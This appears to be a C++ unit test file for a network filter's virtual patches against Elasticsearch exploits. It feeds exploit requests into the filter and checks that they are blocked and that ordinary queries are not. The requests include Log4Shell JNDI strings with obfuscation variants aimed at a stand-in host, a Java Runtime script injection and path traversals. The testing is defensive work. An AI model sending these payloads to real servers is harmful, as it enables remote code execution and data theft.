// The virtual patches as shipped: each stops the requests it is for, as attackers send them, and leaves alone
// what honest clients send.
#include "config/patches.h"

#include <gtest/gtest.h>

#include <string>
#include <vector>

#include "config/load.h"

namespace springlatch {
namespace {

struct Sent {
    const char* method;
    const char* path;
    const char* query = "";
    const char* header = "";
};

class Patched : public testing::Test {
  public:
    /// The name of the patch that denies the request; "" if none does.
    std::string patch_for(const Sent& sent) {
        const std::string head = std::string(sent.method) + " " + sent.path + "?" + sent.query +
                                 " HTTP/1.1\r\nHost: db\r\n" + sent.header + "\r\n\r\n";
        PatternQuestion texts(scratch, sent.path, sent.query, head);
        http::Method method = http::Method::unknown;
        for (const auto candidate : {http::Method::get, http::Method::post, http::Method::put}) {
            if (http::name_of(candidate) == sent.method) method = candidate;
        }
        const Decision got = policy->decide(
            0, 0, {.method = method, .credentials = http::Credentials::basic, .texts = &texts});
        EXPECT_EQ(got.reason == Reason::patched, got.action != Action::allow);
        return got.reason == Reason::patched ? policy->rule_id(got.rule) : "";
    }

    std::shared_ptr<const CompiledPolicy> policy =
        parse_policy(R"({"version": 1, "patches": ["all"], "zones": {"all": ["0.0.0.0/0"]},
            "services": {"s": {"protocol": "elasticsearch", "addresses": ["10.0.0.1"], "ports": [9200]}},
            "rules": [{"id": "everything", "from": ["all"], "to": ["s"], "credentials": "any", "action": "allow"}]})",
                     "p", {})
            ->policy;
    PatternScratch scratch{policy->parts().patterns, 4096};
};

TEST_F(Patched, StopsExploitsAsTheyAreSent) {
    const std::vector<std::pair<const char*, Sent>> cases = {
        {"CVE-2014-3120",
         {"GET", "/_search",
          "source=%7B%22size%22%3A1%2C%22script_fields%22%3A%7B%22x%22%3A%7B%22script%22%3A%22import%20java."
          "io.*%22%7D%7D%7D"}},
        {"CVE-2014-3120", {"POST", "/_search", "pretty&%73ource={%22script_fields%22:{}}"}},
        {"CVE-2015-1427",
         {"GET", "/_search",
          "source=%7B%22x%22%3A%22java.lang.Math.class.forName(%5C%22java.lang.Runtime%5C%22)%22%7D"}},
        {"CVE-2015-3337", {"GET", "/_plugin/head"}},
        {"CVE-2015-3337", {"GET", "/_plugin/head/"}},
        {"CVE-2015-3337", {"GET", "/%5fplugin/head"}},
        {"CVE-2015-5531", {"GET", "/_snapshot/test/backdata..x"}},
        {"CVE-2015-5531", {"GET", "/_snapshot/test/backdata%2541"}},
        {"CVE-2021-44228", {"GET", "/_search", "q=${jndi:ldap://x/a}"}},
        {"CVE-2021-44228", {"GET", "/_search", "q=%24%7Bjndi:ldap://x/a%7D"}},
        {"CVE-2021-44228", {"GET", "/", "", "User-Agent: ${JnDi:ldap://x/a}"}},
        {"CVE-2021-44228", {"GET", "/", "", "X-Api-Version: ${${lower:j}ndi:ldap://x/a}"}},
        {"CVE-2021-44228", {"GET", "/", "", "X-Api-Version: ${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}"}},
        {"CVE-2021-44228", {"GET", "/", "", "User-Agent: ${env:NaN:-j}ndi${env:NaN:-:}"}},
    };
    for (const auto& [name, sent] : cases) {
        // Of two that know the same request the first in the list says so.
        const std::string got = patch_for(sent);
        const bool same_parameter = std::string(name) == "CVE-2015-1427" && got == "patch:CVE-2014-3120";
        EXPECT_TRUE(got == std::string("patch:") + name || same_parameter)
            << got << " for " << sent.path << '?' << sent.query << ' ' << sent.header;
    }
    const std::string nested = "q=" + std::string(300, '(') + "a" + std::string(300, ')');
    EXPECT_EQ(patch_for({"GET", "/_search", nested.c_str()}), "patch:CVE-2023-31419");
}

TEST_F(Patched, LeavesAloneWhatHonestClientsSend) {
    for (const Sent& sent : std::vector<Sent>{
             {"GET", "/logs-2024.01/_search", "q=java.lang.NullPointerException&size=20"},
             {"GET", "/logs/_search", "q=description:script&sort=time"},
             {"POST", "/logs/_search",
              "source=%7B%22query%22%3A%7B%22match_all%22%3A%7B%7D%7D%7D&source_content_type=application/"
              "json"},
             {"GET", "/_cat/plugins", "v"},
             {"GET", "/_snapshot/backup/daily-2024.01.02"},
             {"PUT", "/_snapshot/backup", "", "User-Agent: curl/8.1"},
             {"GET", "/prices/_search", "q=price:%24100", "Cookie: a=$b; c={d}"},
             {"GET", "/a/_search", "q=((a%20OR%20b)%20AND%20(c%20OR%20(d%20AND%20e)))"},
             {"GET", "/%3Clogs-%7Bnow%2Fd%7D%3E/_count", ""},
         }) {
        EXPECT_EQ(patch_for(sent), "") << sent.path << '?' << sent.query;
    }
}

TEST(KnownExploits, HaveANameATitleAndSomethingToKnowThemBy) {
    for (const KnownExploit& exploit : known_exploits()) {
        EXPECT_TRUE(exploit.name.starts_with("CVE-"));
        EXPECT_GT(exploit.title.size(), 30U) << exploit.name;
        EXPECT_FALSE(exploit.path.empty() && exploit.query.empty() && exploit.head.empty()) << exploit.name;
    }
}

}  // namespace
}  // namespace springlatch
